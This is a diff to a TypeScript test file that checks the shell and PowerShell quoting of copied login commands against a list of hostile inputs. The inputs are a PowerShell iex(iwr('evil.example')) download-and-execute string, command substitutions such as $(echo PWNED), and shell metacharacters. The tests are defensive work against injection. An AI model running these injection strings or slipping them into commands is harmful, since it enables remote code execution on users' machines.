@@ -1,5 +1,6 @@
+import { execFileSync } from 'node:child_process';
 import { describe, expect, it } from 'vitest';
-import { shellFlag, shellQuote } from './shell-quote';
+import { powershellQuote, shellFlag, shellQuote } from './shell-quote';
 import { loginTargetFor, tshLoginCommand } from '@/shared/connect/tsh-commands';
 
 describe('shell quoting of copied commands', () => {
@@ -17,6 +18,64 @@ describe('shell quoting of copied commands', () => {
     expect(shellQuote('<img src=x onerror=alert(1)>')).toBe("'<img src=x onerror=alert(1)>'");
     expect(shellQuote('кластер-тест')).toBe("'кластер-тест'");
     expect(shellFlag('db-user', 'read only')).toBe("--db-user='read only'");
+  });
+});
+
+const HOSTILE = [
+  "x(iex(iwr('evil.example')))",
+  "it's",
+  "'",
+  "''\\''",
+  'a)b',
+  '$(echo PWNED)',
+  '`echo PWNED`',
+  '${HOME}',
+  'a b\tc\nd',
+  '"',
+  '\\',
+  ';|&<>*?~#!',
+  '',
+  '-n',
+];
+
+describe('bash quoting, as a real bash parses it', () => {
+  const printed = (script: string) => execFileSync('bash', ['-c', script], { encoding: 'utf8' });
+
+  it('hands the program exactly the value, as one argument', () => {
+    for (const value of HOSTILE) expect(printed(`printf '[%s]' ${shellQuote(value)}`), value).toBe(`[${value}]`);
+  });
+
+  it('stays one argument inside "$( … )" (how the install commands fetch their scripts)', () => {
+    for (const value of HOSTILE) expect(printed(`printf '<%s>' "$(printf '[%s]' ${shellQuote(value)})"`), value).toBe(`<[${value}]>`);
+  });
+});
+
+describe('PowerShell quoting', () => {
+  const QUOTES = /['\u2018\u2019\u201A\u201B]/;
+
+  it('is always one verbatim string: single quotes around, every single-quote character doubled', () => {
+    expect(powershellQuote('plain')).toBe("'plain'");
+    expect(powershellQuote('')).toBe("''");
+    expect(powershellQuote("x(iex(iwr('evil.example')))")).toBe("'x(iex(iwr(''evil.example'')))'");
+    expect(powershellQuote('$env:PATH `n')).toBe("'$env:PATH `n'");
+    expect(powershellQuote('a\u2019b\u2018c')).toBe("'a\u2019\u2019b\u2018\u2018c'");
+    for (const value of HOSTILE) {
+      const quoted = powershellQuote(value);
+      expect(quoted.startsWith("'") && quoted.endsWith("'")).toBe(true);
+      const inner = quoted.slice(1, -1);
+      // Inside, a quote character only ever comes as a pair of the same one, and undoing the
+      // pairs gives the value back.
+      let decoded = '';
+      for (let i = 0; i < inner.length; i++) {
+        const c = inner[i]!;
+        if (QUOTES.test(c)) {
+          expect(inner[i + 1], value).toBe(c);
+          i++;
+        }
+        decoded += c;
+      }
+      expect(decoded).toBe(value);
+    }
   });
 });
 
